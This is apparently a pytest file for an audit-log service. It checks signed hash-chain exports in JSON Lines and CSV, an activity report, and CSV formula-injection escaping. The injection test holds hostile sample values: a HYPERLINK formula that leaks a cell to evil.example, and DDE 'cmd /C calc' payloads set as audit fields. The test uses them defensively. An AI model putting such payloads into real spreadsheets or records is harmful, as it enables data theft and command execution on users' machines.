"""Exports (JSON Lines, CSV) end with a signed checkpoint; the report counts what matters."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

from devgen.kit.auth.ed25519 import unb64url as _unb64url
from devgen.services.audit.chain import HASHED_FIELDS
from devgen.services.audit.export import csv_cell
from tests.helpers import register
from tests.services.audit.conftest import platform_admin, service_headers, team, wait_for_record


async def _write_three(client, settings, owner) -> None:
    headers = await service_headers(client, settings, on_behalf=owner)
    for number in range(3):
        body = {"action": "storage.file.read", "tenant_id": owner.tenant_id, "data": {"n": number}}
        assert (await client.post("/api/v1/audit/events", json=body, headers=headers)).is_success


def _recompute(document: dict, prev_hash: str) -> str:
    hashed = {name: document[name] for name in HASHED_FIELDS}
    canonical = json.dumps(hashed, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256((prev_hash + canonical).encode()).hexdigest()


async def test_a_jsonl_export_can_be_verified_by_anyone_with_the_public_keys(client, settings):
    crew = await team(client)
    await _write_three(client, settings, crew.owner)
    response = await client.get(
        "/api/v1/audit/export",
        params={"format": "jsonl", "since": "2000-01-01T00:00:00Z"},
        headers=crew.owner.headers,
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in response.text.splitlines()]
    *rows, trailer = lines
    checkpoint = trailer["checkpoint"]
    assert json.loads(response.headers["x-audit-checkpoint"]) == checkpoint
    storage_rows = [r for r in rows if r["action"] == "storage.file.read"]
    assert [r["data"]["n"] for r in storage_rows] == [0, 1, 2]
    # Outside devgen: recompute every link, then check the signature over the last one.
    prev = rows[0]["prev_hash"]
    for row in rows:
        assert row["prev_hash"] == prev
        assert _recompute(row, prev) == row["hash"]
        prev = row["hash"]
    assert (checkpoint["seq"], checkpoint["hash"]) == (rows[-1]["seq"], rows[-1]["hash"])
    jwks = (await client.get("/api/v1/audit/jwks.json")).json()
    [key] = [k for k in jwks["keys"] if k["kid"] == checkpoint["kid"]]
    signed = {k: checkpoint[k] for k in ("chain", "seq", "hash", "kind")}
    signed["created_at"] = checkpoint["created_at"].replace("+00:00", "Z")
    payload = json.dumps(signed, sort_keys=True, separators=(",", ":")).encode()
    public = Ed25519PublicKey.from_public_bytes(_unb64url(key["x"]))
    public.verify(_unb64url(checkpoint["signature"]), payload)


async def test_a_csv_export_has_a_header_and_one_row_per_record(client, settings):
    crew = await team(client)
    await _write_three(client, settings, crew.owner)
    response = await client.get(
        "/api/v1/audit/export", params={"format": "csv"}, headers=crew.owner.headers
    )
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [json.loads(r["data"]) for r in rows if r["action"] == "storage.file.read"] == [
        {"n": 0},
        {"n": 1},
        {"n": 2},
    ]
    assert json.loads(response.headers["x-audit-checkpoint"])["seq"] == int(rows[-1]["seq"])


async def test_an_empty_range_exports_nothing_and_no_checkpoint(client):
    account = await register(client)
    response = await client.get(
        "/api/v1/audit/export",
        params={"since": "2000-01-01T00:00:00Z", "until": "2000-01-02T00:00:00Z"},
        headers=account.headers,
    )
    assert response.text.splitlines() == ['{"checkpoint": null}']


async def test_the_report_counts_by_action_actor_and_outcome(client, platform):
    account = await register(client)
    for _ in range(2):
        await client.post("/api/v1/auth/login", json={"email": account.email, "password": "no"})
    await client.post(
        "/api/v1/api-keys", json={"name": "k", "scopes": ["read"]}, headers=account.headers
    )
    await wait_for_record(platform, action="identity.api_key.created")
    root = await platform_admin(client, platform)
    await wait_for_record(
        platform, action="identity.login.succeeded", tenant_id=uuid.UUID(root.tenant_id)
    )
    everything = (await client.get("/api/v1/audit/report", headers=root.headers)).json()["data"]
    assert everything["failed_logins"] >= 2
    assert everything["api_keys_created"] == 1
    assert everything["by_outcome"]["failure"] >= 2
    mine = (await client.get("/api/v1/audit/report", headers=account.headers)).json()["data"]
    assert mine["failed_logins"] == 0  # failed sign-ins belong to no tenant
    assert mine["by_action"]["identity.api_key.created"] == 1
    assert mine["by_actor"][f"user:{account.user_id}"] == mine["total"]


HOSTILE_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


async def test_a_csv_export_carries_no_formula_in_any_cell(client, platform, settings):
    account = await register(client)
    signed_in = await client.post(
        "/api/v1/auth/login",
        json={"email": account.email, "password": account.password},
        headers={"User-Agent": HOSTILE_AGENT},
    )
    assert signed_in.status_code == 200, signed_in.text
    await wait_for_record(platform, action="identity.login.succeeded", user_agent=HOSTILE_AGENT)
    hostile = {
        "actor": "+cmd|' /C calc'!A0",
        "resource_id": "-2+3+cmd|' /C calc'!A0",
        "ip": "@SUM(1+1)*cmd|' /C calc'!A0",
        "request_id": "'=quoted already",
        "user_agent": "=1+1",
    }
    body = {"action": "storage.file.read", "tenant_id": account.tenant_id, **hostile}
    headers = await service_headers(client, settings, on_behalf=account)
    assert (await client.post("/api/v1/audit/events", json=body, headers=headers)).is_success
    response = await client.get(
        "/api/v1/audit/export", params={"format": "csv"}, headers=account.headers
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    header, *records = rows
    by_column = [dict(zip(header, row, strict=True)) for row in records]
    logins = [r["user_agent"] for r in by_column if r["action"] == "identity.login.succeeded"]
    assert "'" + HOSTILE_AGENT in logins
    [written] = [r for r in by_column if r["action"] == "storage.file.read"]
    # One leading quote dropped gives every value back.
    assert {name: written[name][1:] for name in hostile} == hostile


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'x", "''x"),
        ("a=1", "a=1"),
        (None, ""),
        (7, "7"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, cell):
    assert csv_cell(value) == cell
